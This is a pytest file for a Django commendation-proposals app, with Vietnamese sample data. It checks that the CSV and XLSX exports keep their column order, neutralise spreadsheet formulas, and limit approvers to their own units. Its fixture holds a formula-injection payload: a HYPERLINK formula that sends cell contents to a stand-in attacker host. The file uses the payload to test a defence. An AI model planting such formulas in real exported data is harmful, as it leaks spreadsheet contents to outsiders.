"""The Board's export of proposals: a commendation dossier list, in its column order, safe to open."""

import datetime

import pytest
from django.urls import reverse

from commendations.admin.viewsets import DOSSIER_COLUMNS, ProposalViewSet
from commendations.models import CommendationProposal, ProposalStatus
from commendations.proposals import fill_from_source
from tests.units.exports import csv_rows, xlsx_sheet

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'


@pytest.fixture
def decided(story, merit, ke_sach_unit):
    proposal = CommendationProposal(
        story=story,
        award_type=merit,
        proposing_unit=ke_sach_unit,
        reason=FORMULA + "\x01",
        status=ProposalStatus.DECIDED,
        decision_number="15/QĐ-UBND",
        decision_date=datetime.date(2026, 2, 3),
        decision_signer="Chủ tịch UBND tỉnh",
    )
    fill_from_source(proposal)
    proposal.save()
    return proposal


def test_the_csv_is_a_dossier_list_with_formulas_neutralised(client, staff, decided):
    client.force_login(staff["board"])
    rows = csv_rows(client.get(reverse("commendation_proposals:index"), {"export": "csv"}))
    # STT, name, unit, achievements summary, award proposed, level, proposing unit, decision.
    assert rows[0] == [str(ProposalViewSet.export_headings[column]) for column in DOSSIER_COLUMNS]
    row = rows[1]
    assert row[0] == "1"
    assert row[1] == "Ông Lý Văn Bảy"
    assert row[2] == "Huyện Kế Sách"
    assert row[3] == "'" + FORMULA  # text, not a formula; the control character gone
    assert row[4] == str(decided.award_type)
    assert row[6] == "Huyện Kế Sách"
    assert row[7:] == ["15/QĐ-UBND", "03/02/2026", "Chủ tịch UBND tỉnh"]


def test_the_xlsx_keeps_the_order_and_writes_text_as_text(client, staff, decided):
    client.force_login(staff["board"])
    sheet = xlsx_sheet(client.get(reverse("commendation_proposals:index"), {"export": "xlsx"}))
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows[0]) == len(DOSSIER_COLUMNS)
    assert rows[1][0] == 1 and rows[1][1] == "Ông Lý Văn Bảy"
    cell = list(sheet.iter_rows(min_row=2, max_row=2))[0][3]
    assert cell.value == FORMULA and cell.data_type == "s"
    assert rows[1][7] == "15/QĐ-UBND"


def test_an_approver_exports_only_their_units(client, staff, decided, y_te_story, merit, y_te_unit):
    other = CommendationProposal(story=y_te_story, award_type=merit, proposing_unit=y_te_unit, reason="Tận tụy")
    fill_from_source(other)
    other.save()
    client.force_login(staff["ks-approver"])
    rows = csv_rows(client.get(reverse("commendation_proposals:index"), {"export": "csv"}))
    assert [row[1] for row in rows[1:]] == ["Ông Lý Văn Bảy"]
